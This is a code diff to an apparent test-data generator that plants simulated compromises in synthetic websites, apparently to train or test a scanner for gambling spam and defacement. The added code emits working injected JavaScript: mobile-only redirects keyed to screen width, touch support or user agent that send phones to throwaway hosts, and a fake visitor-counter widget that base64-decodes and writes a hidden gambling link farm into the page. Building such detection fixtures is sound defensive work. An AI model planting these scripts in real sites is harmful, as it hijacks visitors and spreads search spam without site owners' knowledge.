@@ -9,6 +9,7 @@ injection is byte-identical on every page, as a real footer injection is.
 
 from __future__ import annotations
 
+import base64
 import functools
 import json
 import random
@@ -38,6 +39,8 @@ KINDS: dict[str, tuple[Label, T]] = {
     "cloak_mobile": (Label.GAMBLING, T.CLOAKING_MOBILE),
     "redirect_all": (Label.GAMBLING, T.REDIRECT),
     "js_redirect": (Label.GAMBLING, T.JS_REDIRECT),
+    "script_widget": (Label.GAMBLING, T.EXTERNAL_SCRIPT),
+    "mobile_redirect": (Label.MALICIOUS_SCRIPT, T.JS_REDIRECT),
     "deface_home": (Label.DEFACEMENT, T.DEFACEMENT_PAGE),
     "deface_subpage": (Label.DEFACEMENT, T.DEFACEMENT_PAGE),
     "deface_overlay": (Label.DEFACEMENT, T.DEFACEMENT_OVERLAY),
@@ -51,6 +54,8 @@ VARIANTS: dict[str, tuple[str, ...]] = {
     "meta_injection": ("title", "description_keywords", "open_graph", "json_ld", "all"),
     "js_content": payloads.JS_ENCODINGS,
     "external_script": ("gambling_cdn", "unknown_cdn"),
+    "script_widget": ("writer", "mobile_redirect"),
+    "mobile_redirect": ("mobile_width", "mobile_touch"),
     "modified_asset": ("referrer_redirect", "encoded_redirect"),
     "meta_refresh": ("instant", "delayed"),
     "hidden_iframe": ("one_pixel", "display_none", "offscreen", "unknown_domain"),
@@ -113,11 +118,14 @@ def plan(kind: str, rng: random.Random, pages: tuple[PageSpec, ...], style: str,
     extra: tuple[str, ...] = ()
     if kind == "cloak_infected":
         return _cloak_infected(rng, pages, seed)
-    if kind in ("hidden_links", "js_content", "external_script", "js_redirect", "hidden_iframe",
-                "obfuscated_text", "after_html"):
+    if kind in ("hidden_links", "js_content", "external_script", "script_widget", "js_redirect",
+                "mobile_redirect", "hidden_iframe", "obfuscated_text", "after_html"):
         paths = _scope(rng, pages)
-        if kind == "external_script":
+        if kind in ("external_script", "script_widget"):
             target = _cdn(seed, variant)
+        if kind == "mobile_redirect":
+            # Phones only, to a throw-away host named like nothing: the visitor test is the sign.
+            target = _throwaway(seed)
         if kind == "hidden_iframe" and variant == "unknown_domain":
             label, target = Label.MALICIOUS_SCRIPT, _cdn(seed, "unknown_cdn")
         if kind == "obfuscated_text" and variant.endswith("hidden"):
@@ -195,6 +203,12 @@ def _cdn(seed: int, variant: str) -> str:
     rng = random.Random(f"cdn:{seed}")
     if variant == "gambling_cdn":
         return "cdn." + brand_of(seed).domain.removeprefix("www.")
+    if variant in ("writer", "mobile_redirect"):
+        # A widget host named like a real service (visitor counters, weather, chat): its name
+        # says nothing; only what its script does gives it away.
+        return rng.choice(("widget", "counter", "static", "embed")) + "." + rng.choice(
+            ("statpengunjung", "hitungkunjungan", "widgetkita", "infocuaca-widget", "chatdesa",
+             "kalenderpintar")) + rng.choice((".net", ".com", ".web.id"))
     return rng.choice(("static", "cdn", "js", "assets", "api")) + "." + rng.choice(
         ("jqueryapi", "cloudstatic", "cdnjs-lib", "fontsync", "gstatics", "analytic-js")) + \
         rng.choice((".top", ".xyz", ".site", ".online", ".pro"))
@@ -211,8 +225,13 @@ def patch(a: Attack) -> Patch:
         script = payloads.js_write(a.variant, payloads.link_farm(rng, brands, rng.randint(5, 20)),
                                    rng)
         return Patch(footer=(script,)) if rng.random() < 0.5 else Patch(body_end=(script,))
-    if a.kind == "external_script":
-        src = f"https://{a.target}/{rng.choice(('js/jquery.min.js', 'sc.js', 'ga.js', 'lib.js'))}"
+    if a.kind in ("external_script", "script_widget"):
+        name = rng.choice(("js/jquery.min.js", "sc.js", "ga.js", "lib.js"))
+        # Served by the world (plain http on loopback): its code is what the scan must read.
+        scheme = "https" if a.variant == "gambling_cdn" else "http"
+        if a.variant in ("writer", "mobile_redirect"):
+            name = rng.choice(("counter/v2.js", "embed.js", "widget.min.js", "w.js?id=2231"))
+        src = f"{scheme}://{a.target}/{name}"
         tag = f'<script src="{src}"{rng.choice(("", " async", " defer"))}></script>'
         return Patch(head=(tag,)) if rng.random() < 0.5 else Patch(body_end=(tag,))
     if a.kind == "meta_injection":
@@ -255,8 +274,9 @@ def patch(a: Attack) -> Patch:
         return Patch(title=title, body_start=(f"<div>{links}</div>",))
     if a.kind == "cloak_referer":
         return Patch(head=(f'<script>window.location.replace("{b.url}");</script>',))
-    if a.kind == "js_redirect":
-        return Patch(body_end=(_js_redirect(a.variant, b, rng),))
+    if a.kind in ("js_redirect", "mobile_redirect"):
+        target = a.target if a.kind == "mobile_redirect" else ""
+        return Patch(body_end=(_js_redirect(a.variant, b, rng, target),))
     if a.kind == "deface_overlay":
         return Patch(body_end=(defacement.overlay_script(rng),))
     return Patch()
@@ -338,7 +358,29 @@ def _meta_patch(a: Attack, rng: random.Random, b: Brand) -> Patch:
     return Patch(head=tuple(head), title=title if v in ("title", "all") else None)
 
 
-def _js_redirect(variant: str, b: Brand, rng: random.Random) -> str:
+def _throwaway(seed: int) -> str:
+    rng = random.Random(f"throwaway:{seed}")
+    return rng.choice(("go", "m", "to", "r")) + "." + "".join(
+        rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randint(5, 8))
+    ) + rng.choice((".site", ".online", ".xyz", ".click"))
+
+
+def _js_redirect(variant: str, b: Brand, rng: random.Random, target: str = "") -> str:
+    url = f"https://{target}/" + rng.choice(("", "m/", "?id=77")) if target else b.url
+    if variant == "mobile_width":
+        query = rng.choice(("only screen and (max-width: 760px)", "(max-width: 767px)",
+                            "(pointer: coarse)"))
+        return rng.choice((
+            f'<script>if(window.matchMedia("{query}").matches){{window.location.replace("{url}")'
+            "}</script>",
+            "<script>(function(){var w=document.documentElement.clientWidth||window.innerWidth;"
+            f"if(w<{rng.choice((600, 768, 800))}){{location.href='{url}';}}}})();</script>",
+            f"<script>if(screen.availWidth<=820){{top.location.href='{url}'}}</script>",
+        ))
+    if variant == "mobile_touch":
+        return (f"<script>var _m=['{url}'];if('ontouchstart' in window||navigator.maxTouchPoints"
+                f">1){{setTimeout(function(){{window.location.assign(_m[0])}},"
+                f"{rng.randint(300, 1500)})}}</script>")
     if variant == "mobile_ua":
         return (f"<script>if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent))"
                 f"{{window.location.href='{b.url}';}}</script>")
@@ -380,6 +422,32 @@ def replacement(a: Attack, canonical: str) -> str | None:
                     "</ul></body></html>")
         return gambling.landing_page(rng, brand_of(a.seed), canonical)
     return None
+
+
+def third_party_script(a: Attack) -> str | None:
+    """The code a third-party host serves for an external-script attack (None: not served).
+
+    ``writer`` and ``unknown_cdn`` write a hidden gambling link farm into the page (a counter
+    widget's code around it); ``mobile_redirect`` sends phones to the brand."""
+    if a.kind not in ("external_script", "script_widget") or a.variant == "gambling_cdn":
+        return None
+    rng = random.Random(f"3p:{a.seed}")
+    b = brand_of(a.seed)
+    head = (f"/*! {a.target} widget v{rng.randint(1, 4)}.{rng.randint(0, 9)} */\n"
+            "(function(w,d){var n=d.getElementById('widget-counter');if(n){n.textContent="
+            "'Pengunjung: '+(w.__hits||0);}")
+    if a.variant == "mobile_redirect":
+        query = rng.choice(("only screen and (max-width: 760px)", "(max-width: 767px)"))
+        return (head + f'if(/Android|iPhone|iPad|Mobi/i.test(navigator.userAgent)||w.matchMedia('
+                f'"{query}").matches){{w.location.replace("{b.url}");}}}})(window,document);\n')
+    brands = [b] + [brand_of(a.seed, i) for i in range(1, rng.randint(2, 4))]
+    block, _ = payloads.hidden_block(rng.choice(payloads.HIDING[:4]),
+                                     payloads.link_farm(rng, brands, rng.randint(6, 15)), rng)
+    encoded = base64.b64encode(block.encode()).decode()
+    sink = rng.choice((f"d.write(atob('{encoded}'));",
+                       f"var e=d.createElement('div');e.innerHTML=atob('{encoded}');"
+                       "(d.body||d.documentElement).appendChild(e);"))
+    return head + sink + "})(window,document);\n"
 
 
 def asset_append(a: Attack) -> str:
